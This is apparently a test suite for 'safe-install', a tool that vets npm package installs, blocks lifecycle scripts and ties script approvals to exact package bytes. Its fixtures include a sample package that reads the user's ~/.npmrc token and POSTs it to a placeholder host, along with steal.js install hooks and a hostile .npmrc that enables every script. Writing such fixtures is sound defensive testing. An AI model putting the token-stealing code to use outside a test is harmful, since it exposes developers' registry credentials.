/** Installs real packages: npm 12 and a Node for it, once, into the user's cache (test/helpers/npms.ts). */
import { spawn } from 'node:child_process'
import { appendFile, mkdir, readFile, rm, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import process from 'node:process'
import { fileURLToPath } from 'node:url'
import t from 'tap'
import { runCli, runHere, runOnTerminal } from '../helpers/cli.ts'
import type { Finished } from '../helpers/cli.ts'
import { setUpProject, setUpUser, stage } from '../helpers/enforcement.ts'
import type { Stage } from '../helpers/enforcement.ts'
import { noTerminal } from '../helpers/machine.ts'
import { testedNpms } from '../helpers/npms.ts'
import { snapshot } from '../helpers/project.ts'

t.jobs = 1
t.setTimeout(900_000)

/** No script; reads a token when it is imported. Inert: nobody imports it, and the host is nobody's. */
const reader = (more = ''): Readonly<Record<string, string>> => ({
  'package.json': JSON.stringify({ name: 'reader', version: '1.0.0' }),
  'index.js': `const token = require('node:fs').readFileSync(require('node:os').homedir() + '/.npmrc', 'utf8')
fetch('https://collect.invalid/', { method: 'POST', body: token })
${more}`,
})

const userPolicy = async ({ project }: Stage, policy: unknown): Promise<void> => {
  const folder = join(project.home, '.config', 'safe-install')
  await mkdir(folder, { recursive: true })
  await writeFile(
    join(folder, 'safe-install.json'),
    typeof policy === 'string' ? policy : JSON.stringify(policy),
  )
}

const accept = ['--accept', 'reader@1.0.0', '--rule', 'secret-exfiltration', '--reason', 'read it']

/** npm without the project's node_modules and lockfile, as in a fresh clone. */
async function fresh({ project, npm }: Stage, words: readonly string[], env = {}): Promise<Finished> {
  await rm(join(project.path, 'node_modules'), { recursive: true, force: true })
  await rm(join(project.path, 'package-lock.json'), { force: true })
  return npm(words, { env })
}

const [own, ...others] = await testedNpms()
if (own === undefined) throw new Error('no npm to test with')

// What the policy makes of a package is decided without npm: by one npm. That every npm stops at the gate is below.
t.test('the gate judges by the policy, as safe-install does', async t => {
  const at = await stage(t, own)
  at.registry.publish({ files: reader() })
  await setUpProject(at)
  t.not((await fresh(at, ['install', 'reader'])).code, 0, 'nothing said')

  t.equal((await runHere(at.project, [...accept, '--until', '30d'])).code, 0)
  const accepted = await fresh(at, ['install', 'reader', '--foreground-scripts'])
  t.equal(accepted.code, 0, `accepted: ${accepted.stderr}`)
  t.match(accepted.stderr + accepted.stdout, /Accepted earlier[^]*read it/, 'and said each time')
  t.equal((await at.npm(['install', 'plain'])).code, 0, 'accepted, the second time')
  const written = await at.project.read('safe-install.json')
  await at.project.write('safe-install.json', written.replace(/"until": "[^"]*"/, '"until": "2020-01-01"'))
  t.equal((await runHere(at.project, ['--trust', '--yes'])).code, 0)
  t.not((await at.npm(['install', 'hooked'])).code, 0, 'its day is over, although it is installed')
  await at.project.write('safe-install.json', written.replace('"history"', '"history" '))
  t.equal((await fresh(at, ['install', 'plain'])).code, 0)

  await at.project.write('safe-install.json', `${written}\n`)
  t.not((await fresh(at, ['install', 'reader'])).code, 0, 'a changed file is not trusted')
  const digest = JSON.parse((await runHere(at.project, ['--print-config', '--json'])).stdout) as object
  const found = /[0-9a-f]{64}/.exec(JSON.stringify(digest))?.[0]
  t.equal(
    (await fresh(at, ['install', 'reader'], { SAFE_INSTALL_TRUST_POLICY: found })).code,
    0,
    'but where a build service names its digest',
  )
  await rm(at.project.cache, { recursive: true })
  at.registry.publish({ files: reader('// other bytes') })
  t.not(
    (await fresh(at, ['install', 'reader'], { SAFE_INSTALL_TRUST_POLICY: found })).code,
    0,
    'other bytes under the same version',
  )
})

t.test('actions, ages, registries and lists count at the gate', async t => {
  const at = await stage(t, own)
  await setUpProject(at)
  const outcomes: readonly (readonly [string, unknown, string, boolean])[] = [
    ['nothing said', {}, 'bad-import', false],
    ['a rule made a note', { actions: { rules: { 'tool-named-bin': 'note' } } }, 'bad-import', true],
    [
      'a severity made worse',
      { actions: { severity: { medium: 'block', high: 'block' } } },
      'bad-import',
      false,
    ],
    ['too young', { minimumAgeDays: 36_500, registries: [at.registry.url] }, 'plain', false],
    ['old enough', { minimumAgeDays: 3, registries: [at.registry.url] }, 'plain', true],
    ['a foreign registry', { registries: ['https://registry.example/'] }, 'plain', false],
    ['a file that cannot be understood', '{\n  "rules": {}\n}', 'plain', false],
  ]
  for (const [title, policy, name, passes] of outcomes) {
    await userPolicy(at, policy)
    const done = await fresh(at, ['install', '--no-save', name])
    t.equal(done.code === 0, passes, `${title}: ${done.stderr.slice(0, 1500)}`)
    if (typeof policy === 'string') t.match(done.stderr, /safe-install\.json:2: [^]*unknown key "rules"/)
  }
  await userPolicy(at, {})
  t.equal((await fresh(at, ['install', 'plain'])).code, 0)
  const record = {
    id: 'MAL-2026-1',
    modified: new Date().toISOString(),
    summary: 'Malicious code in plain',
    affected: [{ package: { ecosystem: 'npm', name: 'plain' }, versions: ['1.0.0'] }],
  }
  await at.project.write('feed.json', JSON.stringify([record]))
  t.equal((await runHere(at.project, ['--update-data', join(at.project.path, 'feed.json')])).code, 0)
  const known = await at.npm(['install', 'hooked'])
  t.not(known.code, 0, 'malware that was reported after it was installed')
  t.match(known.stderr, /known-malware/)
  const noted = JSON.parse((await runHere(at.project, ['--history', '--json'])).stdout) as {
    history: { verb: string; alarms: string[] }[]
  }
  t.match(noted.history.at(-1), { verb: 'gate', alarms: ['plain@1.0.0: known-malware'] })
})

for (const tested of [own, ...others]) {
  t.test(`${tested.title}: a hostile clone runs nothing of its own, whatever its settings say`, async t => {
    const scripts = { preinstall: 'node steal.js', postinstall: 'node steal.js', prepare: 'node steal.js' }
    const at = await stage(t, tested, { scripts, dependencies: { 'bad-hook': '1.0.0' } })
    await setUpUser(at)
    const { 'index.js': steal = '' } = reader()
    await at.project.write(
      'steal.js',
      `require('node:fs').writeFileSync(${JSON.stringify(at.marker('clone'))}, '')\n${steal}`,
    )
    await at.project.write(
      '.npmrc',
      'dangerously-allow-all-scripts=true\nignore-scripts=false\nyes=true\nstrict-allow-scripts=false\n',
    )
    for (const words of [['install'], ['install', 'hooked'], ['rebuild']]) {
      const done = await at.npm(words)
      t.not(done.code, 0, words.join(' '))
      t.notOk(at.ran('clone') || at.ran('bad-hook') || at.ran('hooked'), `${words.join(' ')}: nothing ran`)
    }
  })

  t.test(`${tested.title}: an approval holds the script shell to the bytes`, async t => {
    const at = await stage(t, tested)
    await setUpUser(at)
    t.equal((await runHere(at.project, ['--approve', 'hooked@1.0.0', '--yes'])).code, 0)
    t.equal((await fresh(at, ['install', 'hooked'])).code, 0)
    t.ok(at.ran('hooked'), 'the bytes that were shown')
    await rm(at.marker('hooked'))
    await rm(at.project.cache, { recursive: true })
    const manifest = { name: 'hooked', version: '1.0.0', scripts: { postinstall: 'node hook.js' } }
    at.registry.publish({
      files: { 'package.json': JSON.stringify(manifest), 'hook.js': '// other bytes\n' },
    })
    const other = await fresh(at, ['install', 'hooked'])
    t.not(other.code, 0)
    t.match(other.stderr, /approved-bytes-changed/)
  })

  t.test(`${tested.title}: what an approved script leaves in its folder goes on being known`, async t => {
    const at = await stage(t, tested, { allowScripts: { 'builds@1.0.0': true } })
    const manifest = {
      name: 'builds',
      version: '1.0.0',
      bin: { builds: 'program' },
      scripts: { postinstall: 'node build.js && node check.js' },
    }
    at.registry.publish({
      files: {
        'package.json': JSON.stringify(manifest),
        program: '#!/usr/bin/env node\nconsole.log("a stub")\n',
        'build.js': `require('node:fs').copyFileSync('/bin/true', 'program')\n`,
        'check.js': `const { spawnSync } = require('node:child_process')\nspawnSync('./program')\n`,
      },
    })
    await setUpProject(at)
    const first = await at.npm(['install', 'builds'])
    t.equal(first.code, 0, first.stderr)
    const program = join(at.project.path, 'node_modules', 'builds', 'program')
    t.match(await readFile(program, 'latin1'), /^\x7fELF/, 'it was built')
    for (const words of [['install', 'plain'], ['rebuild'], ['ci']]) {
      const done = await at.npm(words)
      t.equal(done.code, 0, `npm ${words.join(' ')}: ${done.stderr}`)
    }
    t.equal((await runCli(at.project, [])).code, 0)
    await appendFile(program, 'x')
    t.not((await at.npm(['install', 'hooked'])).code, 0, 'one byte more is judged as it lies there')
  })

  t.test(`${tested.title}: a lockfile puts one package in another's place`, async t => {
    const at = await stage(t, tested, { dependencies: { hooked: '1.0.0' } })
    await setUpProject(at)
    const good = at.registry.publish({
      files: { 'package.json': '{"name":"quiet","version":"1.0.0"}', 'index.js': '// inert\n' },
    })
    t.equal((await at.npm(['install', '--ignore-scripts'])).code, 0)
    const lock = JSON.parse(await at.project.read('package-lock.json')) as {
      packages: Record<string, object>
    }
    for (const name of [undefined, 'quiet']) {
      lock.packages['node_modules/hooked'] = {
        ...(name === undefined ? {} : { name }),
        version: '1.0.0',
        resolved: good.url,
        integrity: good.integrity,
      }
      await at.project.write('package-lock.json', JSON.stringify(lock))
      const done = await at.npm(['ci'])
      t.not(done.code, 0, `npm ci: ${String(name)}`)
    }
  })
}

t.test(
  '--setup shows what it would write, and writes it when somebody says yes',
  { skip: noTerminal() },
  async t => {
    const at = await stage(t, own)
    const before = [await snapshot(at.project.path), await snapshot(at.project.home)]
    for (const flags of [['--setup'], ['--setup', '--user']]) {
      const unasked = await runHere(at.project, flags)
      t.equal(unasked.code, 10, 'nobody could be asked')
      t.match(
        unasked.stdout,
        /\.npmrc \(new\)\n(?:  \+ .*\n)*  \+ script-shell=\$\{HOME\}\/\.safe-install\/shell/,
      )
      const declined = await runOnTerminal(at.project, flags, { prompt: /Write this\?/, answer: '\n' })
      t.equal(declined.code, 10, 'default No')
      t.same([await snapshot(at.project.path), await snapshot(at.project.home)], before)
    }
    for (const flags of [['--setup'], ['--setup', '--user']]) {
      const agreed = await runOnTerminal(at.project, flags, { prompt: /Write this\?/, answer: 'y\n' })
      t.equal(agreed.code, 0, agreed.stdout)
      const again = await runHere(at.project, flags)
      t.equal(again.code, 0)
      t.match(again.stdout, /^Everything is in place already/, 'no diff and no question the second time')
    }
    t.match(await at.project.read('.npmrc'), /get it and run safe-install --setup --user[^]*remove the lines/)
    for (const flags of [['--setup'], ['--setup', '--user']])
      t.equal((await runCli(at.project, [...flags, '--undo', '--yes'])).code, 0)
    t.same(await snapshot(at.project.path), before[0], 'taken back')
    t.notOk((await snapshot(at.project.home)).some(line => /shell|npmrc|bin\//.test(line)))
  },
)

t.test('--print-config says which file or flag decided', async t => {
  const at = await stage(t, own)
  await userPolicy(at, { contentGaps: 'ask', minimumAgeDays: 3 })
  await at.project.write('safe-install.json', '{"minimumAgeDays":7,"contentGaps":"note"}')
  await at.project.write('.npmrc', 'save-exact=true\nengine-strict=true\nscript-shell=./evil\n')
  const done = await runHere(at.project, ['--print-config', '--json', '--ignore-scripts'])
  const { policy, npm, ignored } = JSON.parse(done.stdout) as Record<string, { key: string }[]>
  const row = (rows: { key: string }[] | undefined, key: string): unknown =>
    rows?.find(one => one.key === key)
  t.match(row(policy, 'minimumAgeDays'), { value: '7', origin: 'project' })
  t.match(row(policy, 'contentGaps'), { value: 'ask', origin: 'user' }, 'a project only tightens')
  t.match(row(policy, 'history'), { value: 'true', origin: 'default' })
  t.match(row(npm, 'engine-strict'), { value: 'true', origin: 'project' })
  t.match(row(npm, 'ignore-scripts'), { value: 'true', origin: 'cli' })
  t.match(row(npm, 'registry'), { origin: 'env' })
  t.match(row(ignored, 'script-shell'), { value: './evil' })
  t.match(row(ignored, 'safe-install.json'), { value: 'contentGaps = note' })
})

t.test('an approved script is run as the real shell would run it', async t => {
  const folder = t.testdir({
    home: {},
    project: { node_modules: { dep: { 'package.json': '{"name":"dep","version":"1.0.0"}' } } },
  })
  const cwd = join(folder, 'project', 'node_modules', 'dep')
  const judge = fileURLToPath(new URL('../../dist/bin/safe-install-shell.js', import.meta.url))
  const env = { PATH: process.env['PATH'], HOME: join(folder, 'home'), MARK: 'ü\n$x' }
  const start = (
    program: string,
    args: readonly string[],
    more: Readonly<Record<string, string>> = {},
    onOut?: (kill: (signal: NodeJS.Signals) => void) => void,
  ): Promise<object> =>
    new Promise((resolve, reject) => {
      // tap would add options of its own for Node.
      const said = Object.entries({ ...env, ...more }).map(([name, value]) => `${name}=${value ?? ''}`)
      const words = ['-i', ...said, program, ...args]
      const child = spawn('/usr/bin/env', words, { cwd, stdio: ['ignore', 'pipe', 'pipe'] })
      let [out, err] = ['', '']
      // Once: what the script prints when it is told to end is no reason to tell it again.
      child.stdout.once('data', () => onOut?.(signal => child.kill(signal)))
      child.stdout.on('data', chunk => (out += String(chunk)))
      child.stderr.on('data', chunk => (err += String(chunk)))
      child.on('error', reject)
      child.on('close', (code, signal) => resolve({ code, signal, out, err }))
    })
  const ours = (script: string, options = '', path = ''): readonly string[] => [
    judge,
    'build',
    '/bin/sh',
    options,
    path,
    '-c',
    script,
  ]
  const scripts = [
    `printf '%s\\n' "it's" 'a "word"' '\`tick\`'; echo one\necho "ünïcode 🎉"`,
    'echo out; echo err >&2; exit 42',
    'no-such-command-at-all',
    'if true; then',
    'kill -TERM $$',
    'kill -KILL $$',
    '',
    'env | grep -v -e ^PWD= -e ^_= -e ^SHLVL= -e ^OLDPWD= | sort',
  ]
  for (const script of scripts)
    t.same(await start(process.execPath, ours(script)), await start('/bin/sh', ['-c', script]), script)
  const told = 'echo "[${NODE_OPTIONS-none}] [${NODE_PATH-none}]"'
  for (const [options, path, out] of [
    ['', '', '[none] [none]\n'],
    ['=--no-warnings', '=', '[--no-warnings] []\n'],
  ] as const) {
    const emptied = { NODE_OPTIONS: '', NODE_PATH: '' }
    t.match(await start(process.execPath, ours(told, options, path), emptied), { out }, out)
  }
  const trapped = "trap 'echo caught; exit 9' TERM INT; echo ready; while :; do sleep 0.05; done"
  for (const signal of ['SIGTERM', 'SIGINT'] as const) {
    const ended = await start(process.execPath, ours(trapped), {}, kill => kill(signal))
    t.match(ended, { code: 9, out: 'ready\ncaught\n' }, signal)
  }
})
